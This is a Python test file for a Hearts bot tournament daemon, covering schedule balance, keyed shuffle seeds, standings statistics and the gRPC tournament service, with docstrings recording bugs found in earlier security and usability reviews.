"""Tournaments: the balanced schedule, the standings' statistics, the TournamentService
over real gRPC on both stores, and a daemon killed mid-tournament that resumes it."""

from __future__ import annotations

import asyncio
import collections
import contextlib
import csv
import hashlib
import io
import itertools
import json
import os
import random
import signal
import socket
import subprocess
import sys
import time
from typing import Any

import grpc
import pytest
from structlog.testing import capture_logs

from heartsbot.client import BotClient
from heartsbot.proto import bot_pb2, game_pb2, tournament_pb2, tournament_pb2_grpc
from heartsbot.strategies import make_strategy
from heartsbot.strategies.graded import LEVELS
from heartsd import standings as stats
from heartsd import tournaments as tours
from heartsd.schedule import balanced_schedule, pair_counts, spread
from heartsd.store import Store
from heartsd.tournaments import TournamentStore
from heartsd.tournament_service import standings_to_wire

from .harness import ADMIN, BOTS, Bot, auth, first_legal, run, running_daemon

P = tournament_pb2


# -- the schedule -----------------------------------------------------------------------

def test_schedule_meets_every_pair_evenly_balances_byes_and_seats_and_is_reproducible():
    eight = [f"b{i}" for i in range(8)]
    rounds = balanced_schedule(eight, 4, 7, seed=5)
    assert spread(rounds, eight) == (3, 3)  # a perfect design: every pair at one table 3 times
    for r in rounds:
        seated = [b for t in r.tables for b in t]
        assert sorted(seated) == sorted(eight) and not r.byes  # everyone plays once a round
    seats = {b: [0] * 4 for b in eight}
    for r in rounds:
        for t in r.tables:
            for s, b in enumerate(t):
                seats[b][s] += 1
    assert all(max(v) - min(v) <= 1 for v in seats.values()), seats
    assert balanced_schedule(eight, 4, 7, seed=5) == rounds and balanced_schedule(eight, 4, 7, seed=6) != rounds

    nine = [f"b{i}" for i in range(9)]
    rounds = balanced_schedule(nine, 4, 9, seed=1)
    byes = {b: sum(b in r.byes for r in rounds) for b in nine}
    assert set(byes.values()) == {1}  # one bye a round, never the same bot twice before all had one
    low, high = spread(rounds, nine)
    assert high - low <= 2

    owners = {f"b{i}": f"o{i // 2}" for i in range(8)}  # four owners with two bots each
    rounds = balanced_schedule(eight, 4, 5, seed=2, owners=owners)
    assert all(len({owners[b] for b in t}) == 4 for r in rounds for t in r.tables)
    with pytest.raises(ValueError):
        balanced_schedule(eight[:3], 4, 1, seed=1)


# -- the standings ------------------------------------------------------------------------

@pytest.mark.parametrize("rounds", [10, 14])
def test_a_long_schedule_never_seats_two_bots_of_one_owner_together_when_it_can_be_avoided(rounds):
    """Before (an attack pass): the owner rule was a weight of 1,000 added to the meetings'
    cost, 8 ** meetings per pair, which outweighed it once pairs had met 4 times. With one
    owner's two bots among 8 at tables of 4, a 10-round tournament seated them together
    in rounds 8 and 9 for every seed (100 tables over 50 seeds), and one owner's three
    bots shared a table in round 6 of 7 (2 + 1 was possible). The owner rule now comes
    first, whatever the meetings."""
    eight = [f"b{i}" for i in range(8)]
    pair = {b: ("Y" if b in ("b0", "b1") else b) for b in eight}
    three = {b: ("X" if b in ("b0", "b1", "b2") else b) for b in eight}
    for seed in range(3):
        assert all(sum(pair[b] == "Y" for b in t) < 2 for r in balanced_schedule(eight, 4, rounds, seed, pair)
                   for t in r.tables)
        assert all(sum(three[b] == "X" for b in t) < 3 for r in balanced_schedule(eight, 4, 7, seed, three)
                   for t in r.tables)


def _avoidable(counts: list[int], bots: int, size: int) -> bool:
    """Whether a round can seat no two bots of one owner together: an owner's bots beyond
    one per table must all sit out, and only ``bots % size`` do."""
    tables = bots // size
    return sum(max(0, c - tables) for c in counts) <= bots % size


def test_byes_go_to_one_owners_extra_bots_whenever_that_keeps_them_apart():
    """Before: a bye went to a crowded owner's bot only among the bots with the fewest byes
    so far. Six bots, three of one owner, at one table of four: the second round's first
    bye went to the owner's third bot, the second to another bot (the owner's first two had
    rested once already), and the owner's two sat together in rounds 2 and 3 (all three in
    round 3) for every seed, where resting two of the three each round kept them apart. Now
    keeping an owner's bots apart comes before evening out byes, as it does for tables; on
    every roster where that is possible, drawn below, no table seats two of one owner."""
    rng = random.Random(7)
    checked = 0
    for _ in range(300):
        size = rng.choice((3, 4, 5))
        n = rng.randint(size, 3 * size + 2)
        bots = [f"b{i}" for i in range(n)]
        owners = {b: f"o{rng.randrange(max(1, n // 2))}" for b in bots if rng.random() < 0.8}
        counts = list(collections.Counter(owners.values()).values())
        if not _avoidable(counts, n, size):
            continue
        checked += 1
        rounds = balanced_schedule(bots, size, rng.randint(1, 6), rng.randrange(1000), owners)
        for r in rounds:
            for t in r.tables:
                mine = [owners[b] for b in t if b in owners]
                assert len(mine) == len(set(mine)), (n, size, owners, r)
            assert len(r.byes) == n % size
    assert checked > 100
    six = ["a1", "a2", "a3", "b", "c", "d"]
    rounds = balanced_schedule(six, 4, 3, seed=0, owners={"a1": "A", "a2": "A", "a3": "A"})
    assert all(len(set(r.byes) & {"a1", "a2", "a3"}) == 2 for r in rounds), rounds


def test_byes_keep_one_owners_bots_apart_where_one_table_alone_cannot(tmp_path):
    """A conformance pass: the bye was the draw's alone, so with five bots (two of one owner)
    at one table of four, CreateTournament's schedule sat the owner's two bots together in
    about half of the two-round tournaments, where a bye for one of them in each round kept
    them apart ("never two bots of one owner at a table when that can be avoided", README);
    six bots with two byes a round alike. Byes are still shared out one at a time."""
    names = {n: "random" for n in ("alice-a", "alice-b", "bob", "carol", "dave", "erin")}
    tokens = {n: f"token-{n}-0123456789" for n in names}

    async def scenario():  # type: ignore[no-untyped-def]
        async with running_daemon(tmp_path, bot_tokens=tokens,
                                  bot_owners={"alice-a": "alice", "alice-b": "alice"}) as daemon:
            clients = await _clients(daemon.target, tokens, names)
            created = []
            async with daemon.channel() as channel:
                stub = tournament_pb2_grpc.TournamentServiceStub(channel)
                for roster in (list(names)[:5], list(names)):
                    for seed in range(8):
                        t = (await stub.CreateTournament(P.CreateTournamentRequest(
                            name="byes", bots=roster, rounds=2, deals_per_match=1, seed=seed),
                            metadata=auth(ADMIN))).tournament
                        await stub.CancelTournament(P.CancelTournamentRequest(id=t.id), metadata=auth(ADMIN))
                        created.append(t)
            await _stop(clients)
            return created

    for t in run(scenario()):
        for row in t.tables:
            assert not {"alice-a", "alice-b"} <= set(row.bots), (len(t.roster), t.seed, row.round, list(row.bots))
        seated = [{b for row in t.tables if row.round == r for b in row.bots} for r in (0, 1)]
        resting = [b.bot for b in t.roster if b.bot not in seated[0]] + [b.bot for b in t.roster if b.bot not in seated[1]]
        assert len(resting) == len(set(resting)), resting  # nobody rests twice before everyone has once


def test_a_later_attempts_seed_is_not_computable_from_the_tournaments():
    """Before: every attempt's seed came from (tournament seed, round, table, attempt), and
    the tournament's seed is public once it is over, so an attempt after a refused or
    interrupted one was as computable as the first (a second attack pass)."""
    from heartsd.tournaments import table_seed

    key = bytes(range(32))
    assert table_seed(11, 2, 1, 0, key) == table_seed(11, 2, 1, 0, key)  # a first attempt replays from seed and key
    later = {table_seed(11, 2, 1, 1, key) for _ in range(20)}
    assert len(later) == 20 and table_seed(11, 2, 1, 0, key) not in later
    assert all(0 <= s < 2 ** 63 for s in later)
    before_keys = int.from_bytes(hashlib.sha256(b"tournament:11:2:1:0").digest()[:8], "big") >> 1
    assert table_seed(11, 2, 1, 0, None) == before_keys  # a tournament created before keys goes on as it started


def test_a_guessable_tournament_seed_gives_no_hand_away_and_the_published_key_checks_every_match(tmp_path):
    """Before (an attack pass): a match's first shuffle seed was SHA-256 of the organiser's
    seed, round and table, so a bot that tried dates and small numbers against its first
    hand found --seed 20261205 in 14.5 s and knew every hand of every round. Now it is keyed
    with a secret the daemon draws: the seed alone computes nothing, and the key is
    published with the seed once the tournament is over, so every match's seed can be
    checked. A key given to replay a tournament is refused where it was already used."""
    from heartsd.tournaments import table_seed

    names = ["alice", "bob", "carol", "dave"]

    async def scenario():
        async with running_daemon(tmp_path) as daemon:
            bots = [await Bot(daemon, n).start() for n in names]
            try:
                async with grpc.aio.insecure_channel(daemon.target) as channel:
                    stub = tournament_pb2_grpc.TournamentServiceStub(channel)
                    create = P.CreateTournamentRequest(name="cup", bots=names, rounds=2, deals_per_match=1,
                                                       seed=20261205)
                    created = (await stub.CreateTournament(create, metadata=auth(ADMIN))).tournament
                    while_running = (created.seed, created.shuffle_key)
                    while True:
                        t = (await stub.GetTournament(P.GetTournamentRequest(id=created.id))).tournament
                        if t.status == P.TOURNAMENT_STATUS_FINISHED:
                            break
                        await asyncio.sleep(0.1)
                    refusals = []
                    for key in (t.shuffle_key, b"short"):
                        again = P.CreateTournamentRequest(name="again", bots=names, rounds=1, deals_per_match=1,
                                                          seed=20261205, shuffle_key=key)
                        with pytest.raises(grpc.aio.AioRpcError) as refused:
                            await stub.CreateTournament(again, metadata=auth(ADMIN))
                        refusals.append((refused.value.code(), refused.value.details()))
                seeds = {(row.round, row.table): daemon.stored(row.match_id).seed for row in t.tables}
                return while_running, t, seeds, refusals
            finally:
                for b in bots:
                    await b.close()

    while_running, t, seeds, refusals = run(scenario())
    assert while_running == (0, b""), "seed and key are secret while the tournament runs"
    assert t.seed == 20261205 and len(t.shuffle_key) == 32
    unkeyed = {table_seed(20261205, r, n, 0, None) for r, n in seeds}
    assert not unkeyed & set(seeds.values()), "a match's seed is computable from the organiser's seed alone"
    assert all(seed == table_seed(t.seed, r, n, 0, t.shuffle_key) for (r, n), seed in seeds.items())
    assert refusals[0][0] == grpc.StatusCode.FAILED_PRECONDITION and "every hand can be computed" in refusals[0][1]
    assert refusals[1][0] == grpc.StatusCode.INVALID_ARGUMENT and "shuffle_key is 32 bytes" in refusals[1][1]


def _simulated(shuffles: int, seed: int) -> list[stats.Deal]:
    """Every shuffle played by five bots: a and b score exactly alike, so do c and d
    (the data cannot separate them), each pair 7 points a deal apart, e 7 beyond; a
    shuffle's luck is shared by all, plus each pair's own noise."""
    rng = random.Random(seed)
    deals = []
    for s in range(shuffles):
        luck = rng.gauss(6, 4)
        own = [rng.gauss(0, 3) for _ in range(3)]
        for bot, points in (("a", luck + own[0]), ("b", luck + own[0]), ("c", luck + 7 + own[1]),
                            ("d", luck + 7 + own[1]), ("e", luck + 14 + own[2])):
            deals.append(stats.Deal(f"s{s}", f"m{s}", bot, round(points)))
    return deals


def test_standings_rank_separate_and_tie_as_the_data_allows():
    deals = _simulated(60, seed=3)
    table = stats.compute(deals, [], {}, seed=7, replicates=1000)
    by_bot = {r.bot: r for r in table.rows}
    assert [r.bot for r in table.rows][-1] == "e"
    assert by_bot["a"].rank == by_bot["b"].rank == 1 and "b" in by_bot["a"].tied_with  # equal: a tie
    assert by_bot["c"].rank == by_bot["d"].rank == 3 and "d" in by_bot["c"].tied_with
    assert by_bot["e"].rank == 5 and not by_bot["e"].tied_with
    for r in table.rows:
        assert r.ci_low <= r.points_per_deal <= r.ci_high
    assert abs(sum(r.p_best for r in table.rows) - 1) < 1e-9
    assert by_bot["a"].p_best + by_bot["b"].p_best > 0.99
    again = stats.compute(deals, [], {}, seed=7, replicates=1000)
    assert again.to_json() == table.to_json()  # the same results give the same standings
    rows = stats.Standings.csv_from_dict(json.loads(table.to_json())).splitlines()
    assert rows[0].startswith("rank,bot,version,points_per_deal,ci_low,ci_high,p_best") and len(rows) == 6


def test_a_rank_never_puts_a_bot_ahead_of_one_with_fewer_points_per_deal():
    """A newcomer's pass: `tournament show` listed "1= house-heuristic 4.25" above "2=
    nodebot 2.75" (fewer points are better). A bot's rank was 1 + the bots separated ahead
    of it, and separation is not transitive: a bot whose few deals were too spread out to
    be separated from anyone ranked first, ahead of a better-scoring bot that one strong bot
    was separated from. Ranks now follow the points per deal: a bot ranks no better than
    any bot with fewer points per deal."""
    deals = []
    for s in range(40):  # x and y share 40 shuffles; x is clearly better
        deals += [stats.Deal(f"s{s}", f"m{s}", "x", s % 2), stats.Deal(f"s{s}", f"m{s}", "y", 3 + s % 2)]
    for s, points in enumerate((0, 10, 0, 10)):  # z: 4 shuffles of its own, spread out
        deals.append(stats.Deal(f"t{s}", f"n{s}", "z", points))
    table = stats.compute(deals, [], {}, seed=7, replicates=1000)
    shown = [(r.bot, r.rank, r.points_per_deal) for r in table.rows]
    assert shown == [("x", 1, 0.5), ("y", 2, 3.5), ("z", 2, 5.0)], shown  # before: z 1, listed second
    by_bot = {r.bot: r for r in table.rows}
    assert "z" in by_bot["y"].tied_with and "y" in by_bot["z"].tied_with and "z" in by_bot["x"].tied_with
    assert table.test == stats.TEST  # 44 shuffles


def test_bots_without_deals_rank_after_every_bot_that_played_and_export_as_valid_json():
    """An organiser's pass: a tournament cancelled after its first match ranked the three bots
    that never played "1=" beside the leaders (separated from nobody), `show --json` wrote
    NaN (which strict JSON parsers refuse), `--csv` wrote nan, and the web's standings drew
    them with 0.0 points per deal: the best score. Now they share the rank after every bot
    that played, tied only with each other, with null statistics."""
    deals = [stats.Deal(f"s{s}", "m1", bot, points)
             for s in range(8) for bot, points in (("a", 0), ("b", 5), ("c", 9), ("d", 12))]
    table = stats.compute(deals, [], {}, seed=7, replicates=200, roster=["a", "b", "c", "d", "e", "f", "g"])
    by_bot = {r.bot: r for r in table.rows}
    assert [by_bot[b].rank for b in "efg"] == [5, 5, 5], [(r.bot, r.rank) for r in table.rows]
    assert all(by_bot[b].rank < 5 for b in "abcd")
    assert sorted(by_bot["e"].tied_with) == ["f", "g"] and not {"e", "f", "g"} & set(by_bot["a"].tied_with)

    def strict(constant: str) -> None:
        raise ValueError(f"not JSON: {constant}")

    exported = json.loads(table.to_json(), parse_constant=strict)
    rows = {b["bot"]: b for b in exported["bots"]}
    assert rows["e"]["points_per_deal"] is None and rows["e"]["ci_low"] is None and rows["e"]["deals"] == 0
    assert "nan" not in table.to_csv().lower()
    wire = standings_to_wire(exported, table.to_json())  # what GetTournament and the web front read
    from heartsd.web.present import tournament as web_tournament

    shown = web_tournament(tournament_pb2.Tournament(standings=wire))["standings"]
    assert {r["bot"]: r["points_per_deal"] for r in shown if r["bot"] in "efg"} == dict.fromkeys("efg")


def test_a_bot_mostly_played_by_defaults_is_flagged_unreliable_as_on_the_ladder():
    """An organiser's pass: a bot away from two of its four matches (434 decisions
    auto-played) ranked fifth, ahead of two bots that played, with no flag; the ladder flags
    a bot whose defaults pass 5% of its decisions. The standings now carry that flag, in the
    exports and on the wire's rows as GetTournament, the command line and the page read it."""
    deals = [stats.Deal(f"s{s}", "m1", bot, points)
             for s in range(8) for bot, points in (("a", 0), ("b", 5), ("c", 9), ("d", 12))]
    reliability = {"a": stats.Reliability(decisions=100, auto=5), "b": stats.Reliability(decisions=100, auto=6),
                   "c": stats.Reliability(decisions=100)}
    table = stats.compute(deals, [], reliability, seed=7, replicates=200)
    exported = {b["bot"]: b["unreliable"] for b in json.loads(table.to_json())["bots"]}
    assert exported == {"a": False, "b": True, "c": False, "d": False}, exported  # 5% is not above 5%
    assert ",True" in table.to_csv() and "unreliable" in table.to_csv().splitlines()[0]
    wire = standings_to_wire(json.loads(table.to_json()), table.to_json())
    assert [stats.reliability_of(r).unreliable for r in wire.rows if r.bot in "ab"] == [False, True]


def test_standings_over_few_shuffles_say_their_statistics_are_optimistic():
    """A newcomer's pass: 5 bots, 2 rounds of 4 deals, and a bot was "separated" from
    another on 4 shared deals, with no word that so few shuffles make a bootstrap optimistic."""
    few = stats.compute(_simulated(12, seed=3), [], {}, seed=7, replicates=200)
    assert few.test.startswith(stats.TEST) and "only 12 shuffles" in few.test and "optimistic" in few.test
    assert "only 12 shuffles" in json.loads(few.to_json())["test"]  # what the CLI and the web front print
    assert stats.compute(_simulated(30, seed=3), [], {}, seed=7, replicates=200).test == stats.TEST


def test_head_to_head_counts_matches_at_one_table():
    tables = [stats.TableResult("m1", ("a", "b", "c", "d"), (10, 20, 30, 40), (1, 2, 3, 4), 4),
              stats.TableResult("m2", ("b", "a", "c", "d"), (5, 15, 30, 40), (1, 2, 3, 4), 4)]
    h = {(x.a, x.b): x for x in stats.head_to_head(tables, ["a", "b", "c", "d"])}
    ab = h[("a", "b")]
    assert (ab.matches, ab.a_ahead, ab.b_ahead, ab.level) == (2, 1, 1, 0)
    assert ab.points_diff_per_deal == pytest.approx(((10 - 20) / 4 + (15 - 5) / 4) / 2)


# -- the service, on both stores --------------------------------------------------------------

def _fingerprints(store: Store, match_ids: list[str]) -> dict[str, list[frozenset[tuple[int, ...]]]]:
    """Per bot, the shuffles it was dealt (each as the set of its four dealt hands)."""
    seen: dict[str, list[frozenset[tuple[int, ...]]]] = {}
    for match_id in match_ids:
        record = store.get(match_id).record
        for dealt in record.deals:
            shuffle = frozenset(tuple(sorted((c.suit, c.rank) for c in h.cards)) for h in dealt.hands)
            for seat in record.seats:
                seen.setdefault(seat.name, []).append(shuffle)
    return seen


async def _clients(target: str, tokens: dict[str, str], strategies: dict[str, str], version: str = "v1",
                   backoff: tuple[float, float] = (0.05, 0.5), rulesets: tuple[str, ...] = (),
                   max_matches: int = 2) -> list[BotClient]:
    clients = [BotClient(target, tokens[n], make_strategy(strategies[n]), n, version=version, max_matches=max_matches,
                         backoff_s=backoff, rulesets=rulesets) for n in tokens]
    for c in clients:
        c.task = asyncio.get_running_loop().create_task(c.run())  # type: ignore[attr-defined]
    await asyncio.gather(*(asyncio.wait_for(c.connected.wait(), 30) for c in clients))
    return clients


async def _stop(clients: list[BotClient]) -> None:
    for c in clients:
        c.stop()
    await asyncio.gather(*(c.task for c in clients), return_exceptions=True)  # type: ignore[attr-defined]


@contextlib.asynccontextmanager
async def _tournament_of(daemon, tokens: dict[str, str], strategies: dict[str, str], **fields):  # type: ignore[no-untyped-def]
    """Connect ``tokens``' bots playing ``strategies`` and create a tournament of them
    (CreateTournamentRequest ``fields``); yields (the tournament service's stub, the created
    tournament), and stops the bots after."""
    clients = await _clients(daemon.target, tokens, strategies)
    try:
        async with daemon.channel() as channel:
            stub = tournament_pb2_grpc.TournamentServiceStub(channel)
            created = (await stub.CreateTournament(P.CreateTournamentRequest(bots=list(tokens), **fields),
                                                   metadata=auth(ADMIN))).tournament
            yield stub, created
    finally:
        await _stop(clients)


async def _when_finished(stub: tournament_pb2_grpc.TournamentServiceStub, tournament_id: str) -> P.Tournament:
    """The tournament once finished, or as it is after a minute."""
    for _ in range(1200):
        t = (await stub.GetTournament(P.GetTournamentRequest(id=tournament_id))).tournament
        if t.status == P.TOURNAMENT_STATUS_FINISHED:
            break
        await asyncio.sleep(0.05)
    return t


@contextlib.asynccontextmanager
async def _shared_store_tournament(tmp_path, names: dict[str, str], rounds: int, deals: int, seed: int,
                                   **b_settings: Any):  # type: ignore[no-untyped-def]
    """Daemons A and B on one store, ``names``' bots connected to A, and a tournament made on
    A: yields (a, b, stub on A, stub on B, the tournament as created); the bots stop after."""
    db = str(tmp_path / "shared.db")
    async with running_daemon(tmp_path, db=db, instance="a") as a, \
            running_daemon(tmp_path, db=db, instance="b", **b_settings) as b:
        clients = await _clients(a.target, {n: BOTS[n] for n in names}, names)
        try:
            async with a.channel() as channel_a, b.channel() as channel_b:
                on_a = tournament_pb2_grpc.TournamentServiceStub(channel_a)
                on_b = tournament_pb2_grpc.TournamentServiceStub(channel_b)
                created = (await on_a.CreateTournament(P.CreateTournamentRequest(
                    name="shared", bots=list(names), rounds=rounds, deals_per_match=deals, seed=seed),
                    metadata=auth(ADMIN))).tournament
                yield a, b, on_a, on_b, created
        finally:
            await _stop(clients)


def test_tournament_service_plays_a_schedule_with_byes_and_frozen_versions(tmp_path, store_url, monkeypatch):
    """Five bots at four-seat tables (a bye a round), alongside the ladder's slot
    accounting: every scheduled match finished once, standings from exactly those, no
    bot dealt a shuffle twice, a bot back with another version is not seated until it
    returns with the frozen one, and its table says why meanwhile (TournamentTable.waiting;
    before, only the daemon's log did); pause, resume, cancel and the errors."""
    monkeypatch.setattr(tours, "SEAT_WAIT_S", 0.5)  # one wait for seats (30 s), before the reason is known
    names = dict(zip(("alice", "bob", "carol", "dave", "erin"),
                     ("graded-0", "graded-36", "graded-67", "graded-100r", "heuristic")))
    tokens = {n: BOTS[n] for n in names}

    async def scenario():
        async with running_daemon(tmp_path, db=store_url) as daemon:
            clients = await _clients(daemon.target, tokens, names)
            async with daemon.channel() as channel:
                stub = tournament_pb2_grpc.TournamentServiceStub(channel)
                errors = {}
                for label, request, metadata in (
                    ("no token", P.CreateTournamentRequest(bots=list(names), rounds=2), ()),
                    ("too few", P.CreateTournamentRequest(bots=["alice", "bob"], rounds=2), auth(ADMIN)),
                    ("absent", P.CreateTournamentRequest(bots=[*names, "gina"], rounds=2), auth(ADMIN)),
                    ("unknown", P.CreateTournamentRequest(bots=[*names, "ghost"], rounds=2), auth(ADMIN)),
                    ("twice", P.CreateTournamentRequest(bots=[*names, "alice"], rounds=2), auth(ADMIN)),
                ):
                    try:
                        await stub.CreateTournament(request, metadata=metadata)
                    except grpc.aio.AioRpcError as exc:
                        errors[label] = exc.code()
                created = (await stub.CreateTournament(P.CreateTournamentRequest(
                    name="five", bots=list(names), rounds=3, deals_per_match=2, seed=11),
                    metadata=auth(ADMIN))).tournament
                await stub.PauseTournament(P.PauseTournamentRequest(id=created.id), metadata=auth(ADMIN))
                # erin comes back as another version: it is not seated until it returns as v1.
                erin = next(c for c in clients if c.name == "erin")
                erin.stop()
                await erin.task
                other = (await _clients(daemon.target, {"erin": tokens["erin"]}, names, version="v2"))[0]
                await stub.ResumeTournament(P.ResumeTournamentRequest(id=created.id), metadata=auth(ADMIN))
                while True:
                    t = (await stub.GetTournament(P.GetTournamentRequest(id=created.id))).tournament
                    waiting = [row for row in t.tables if row.status in ("starting", "pending") and "erin" in row.bots
                               and row.round == min(r.round for r in t.tables if r.status != "finished")]
                    if waiting or t.status == P.TOURNAMENT_STATUS_FINISHED:
                        break
                    await asyncio.sleep(0.05)
                await asyncio.sleep(0.3)
                erin_blocked = not any("erin" in [s.name for s in r.seats] for r in daemon.arena.runners.values())
                for _ in range(600):
                    t = (await stub.GetTournament(P.GetTournamentRequest(id=created.id))).tournament
                    why = [row.waiting for row in t.tables if row.waiting]
                    if why:
                        break
                    await asyncio.sleep(0.05)
                await _stop([other])
                back = (await _clients(daemon.target, {"erin": tokens["erin"]}, names))[0]
                for _ in range(6000):  # up to 5 minutes on a loaded machine
                    t = (await stub.GetTournament(P.GetTournamentRequest(id=created.id))).tournament
                    if t.status == P.TOURNAMENT_STATUS_FINISHED:
                        break
                    await asyncio.sleep(0.05)
                listed = await stub.ListTournaments(P.ListTournamentsRequest())
                try:
                    await stub.CancelTournament(P.CancelTournamentRequest(id=created.id), metadata=auth(ADMIN))
                except grpc.aio.AioRpcError as exc:
                    errors["cancel finished"] = exc.code()
                try:  # its seed and key are public now: a tournament on them could be computed by anyone
                    await stub.CreateTournament(P.CreateTournamentRequest(
                        bots=list(names), rounds=1, deals_per_match=1, seed=11, shuffle_key=t.shuffle_key),
                        metadata=auth(ADMIN))
                except grpc.aio.AioRpcError as exc:
                    errors["key reused"] = exc.code()
                    assert created.id in exc.details() and "every hand can be computed" in exc.details()
                second = (await stub.CreateTournament(P.CreateTournamentRequest(
                    bots=list(names), rounds=50, deals_per_match=40), metadata=auth(ADMIN))).tournament
                await _until(daemon.target, second.id, lambda t: any(r.status == "running" for r in t.tables), 60)
                cancelled = (await stub.CancelTournament(P.CancelTournamentRequest(id=second.id, reason="test"),
                                                         metadata=auth(ADMIN))).tournament
            await _stop([c for c in clients if c.name != "erin"] + [back])
            store = daemon.arena.store
            every_match = [m.id for m in store.list(limit=1000) if m.status in ("finished", "aborted", "cancelled")]
            seen = _fingerprints(store, every_match)
            return errors, t, erin_blocked, why, listed, cancelled, seen

    errors, t, erin_blocked, why, listed, cancelled, seen = run(scenario())
    # The public text names the frozen version (the roster shows it), never the live one.
    assert why and all("bot 'erin' is not connected as the version frozen at the start, 'v1'" in w and "v2" not in w
                       for w in why), why
    assert not any(row.waiting for row in t.tables)  # finished: nothing waits
    assert errors == {"no token": grpc.StatusCode.UNAUTHENTICATED, "too few": grpc.StatusCode.INVALID_ARGUMENT,
                      "absent": grpc.StatusCode.FAILED_PRECONDITION, "unknown": grpc.StatusCode.NOT_FOUND,
                      "twice": grpc.StatusCode.INVALID_ARGUMENT,
                      "cancel finished": grpc.StatusCode.FAILED_PRECONDITION,
                      "key reused": grpc.StatusCode.FAILED_PRECONDITION}  # before: created, its deals computable
    assert t.status == P.TOURNAMENT_STATUS_FINISHED and t.seed == 11
    assert erin_blocked
    assert [r.version for r in t.roster] == ["v1"] * 5
    assert t.matches_total == t.matches_finished == 3 and all(row.status == "finished" for row in t.tables)
    standings = json.loads(t.standings.json)
    assert sorted(b["bot"] for b in standings["bots"]) == sorted(names)
    assert sum(b["matches"] for b in standings["bots"]) == 3 * 4  # each match counted once
    assert sum(b["deals"] for b in standings["bots"]) == 3 * 4 * 2
    assert {"bots", "head_to_head", "test", "shuffles"} <= set(standings)
    for b in standings["bots"]:
        assert {"rank", "points_per_deal", "ci_low", "ci_high", "p_best", "timeouts"} <= set(b)
    assert [x.id for x in listed.tournaments][1:] == [t.id] or t.id in [x.id for x in listed.tournaments]
    # The list counts the matches as GetTournament does (before: always 0/0, no tables loaded).
    summary = next(x for x in listed.tournaments if x.id == t.id)
    assert (summary.matches_total, summary.matches_finished) == (3, 3) and not summary.tables
    assert cancelled.status == P.TOURNAMENT_STATUS_CANCELLED
    # A table whose match was cancelled reads pending and names no match: it does not count (a contract check).
    assert [r.attempts for r in cancelled.tables if r.round == 0] == [1] and all(
        r.status == "pending" and not r.match_id for r in cancelled.tables), cancelled.tables
    for bot, shuffles in seen.items():
        assert len(shuffles) == len(set(shuffles)), f"{bot} was dealt a shuffle twice"


@pytest.mark.parametrize(("leaves_as", "bots"), [("gone", 4), ("another version", 4), ("another ruleset", 4),
                                                ("draining", 4), ("gone", 8)])
def test_a_roster_bot_that_leaves_no_longer_holds_the_tournament(tmp_path, leaves_as, bots):
    """Before (a bot owner's pass): a table waited for every roster bot for as long as the
    tournament ran, so a bot that left (or came back as another version) held its round
    for ever, and a leader could freeze the tournament where it led. Now, after
    ``tournament_absent_s``, the table's match starts without it: its seats play as a
    disconnected bot's do (the grace, then defaults), the tournament finishes, and the
    standings count it, its defaults included. A bot connected as the frozen version that
    declares only rulesets the tournament is not, or drains (a review of the first fix),
    is no different, and that stream is sent nothing of the match (an attack pass: it
    was, past its match limit). With eight bots the round's two tables play as a duplicate
    set, which starts without it the same way."""
    names = {n: "heuristic" for n in ("alice", "bob", "carol", "dave", "erin", "frank", "gina", "hugo")[:bots]}
    tokens = {n: f"token-{n}-0123456789" for n in names}

    async def scenario():  # type: ignore[no-untyped-def]
        async with running_daemon(tmp_path, tournament_absent_s=1.0, grace_ms=200, bot_tokens=tokens) as daemon:
            clients = await _clients(daemon.target, tokens, names)
            async with daemon.channel() as channel:
                stub = tournament_pb2_grpc.TournamentServiceStub(channel)
                created = (await stub.CreateTournament(P.CreateTournamentRequest(
                    name="absent", bots=list(names), rounds=2, deals_per_match=1, seed=5),
                    metadata=auth(ADMIN))).tournament
                await stub.PauseTournament(P.PauseTournamentRequest(id=created.id), metadata=auth(ADMIN))
                dave = next(c for c in clients if c.name == "dave")
                await _stop([dave])
                others = [c for c in clients if c is not dave]
                if leaves_as == "another version":
                    others += await _clients(daemon.target, {"dave": tokens["dave"]}, names, version="v2")
                elif leaves_as == "another ruleset":
                    others += await _clients(daemon.target, {"dave": tokens["dave"]}, names, rulesets=("omnibus",))
                elif leaves_as == "draining":
                    async def slowly(request, bot):  # type: ignore[no-untyped-def]
                        await asyncio.sleep(0.2)  # its match elsewhere outlasts the test
                        return first_legal(request, bot)

                    drainer = await Bot(daemon, "dave", policy=slowly, token=tokens["dave"], version="v1",
                                        max_matches=2).start()
                    # Busy elsewhere while it drains: its stream stays open (an attack pass).
                    await daemon.create_match(["dave", "house:random", "house:random", "house:random"], deals=50)
                    drainer.send(bot_pb2.PlayRequest(drain=bot_pb2.Drain(reason="moving hosts")))
                # Taken before the call: the table's wait may begin before its answer arrives
                # (taken after it, a loaded run measured 880 ms).
                resumed_ms = time.time() * 1000
                await stub.ResumeTournament(P.ResumeTournamentRequest(id=created.id), metadata=auth(ADMIN))
                t = await _when_finished(stub, created.id)  # up to a minute; before, it waited for ever
            await _stop(others)
            sent_to_stream = None
            if leaves_as == "draining":
                sent_to_stream = [r for r in drainer.received if r.HasField("update")]
                await drainer.close()
            last = max(row.round for row in t.tables)
            stored = next(daemon.arena.store.get(row.match_id) for row in t.tables
                          if row.round == last and "dave" in row.bots)
            return t, stored.record, stored.set_id, stored.created_ms - resumed_ms, sent_to_stream

    t, record, set_id, waited_ms, sent_to_stream = run(scenario())
    # The draining stream may finish the first round's match (it was dave's, running); of
    # the match started without it, it is sent nothing.
    assert not [u for u in sent_to_stream or [] if u.update.match_id == record.match_id], sent_to_stream
    # tournament_absent_s (1 s): the table waited for dave first. Less a few ms: created_ms is
    # truncated to the millisecond and taken from the wall clock, the wait on the loop's monotonic
    # one (a CI run measured 999.17).
    assert waited_ms >= 990, waited_ms
    assert bool(set_id) == (bots == 8)  # eight bots: the round's tables are a duplicate set
    assert t.status == P.TOURNAMENT_STATUS_FINISHED, [(row.status, row.waiting) for row in t.tables]
    assert t.matches_total == t.matches_finished == bots // 2
    # The first round may have started before the pause (dave then left during it); the
    # second started after dave had left: every decision of its seat is a default.
    dave = next(s.seat for s in record.seats if s.name == "dave")
    played = {d.provenance for d in record.decisions if d.seat == dave}
    assert game_pb2.PROVENANCE_DISCONNECT in played, played  # the grace, then defaults ...
    assert played <= {game_pb2.PROVENANCE_DISCONNECT, game_pb2.PROVENANCE_AUTO}, played  # ... then auto-play
    assert {d.provenance for d in record.decisions if d.seat != dave} == {game_pb2.PROVENANCE_BOT}
    standings = json.loads(t.standings.json)
    assert sorted(b["bot"] for b in standings["bots"]) == sorted(names)
    assert next(b for b in standings["bots"] if b["bot"] == "dave")["matches"] == 2


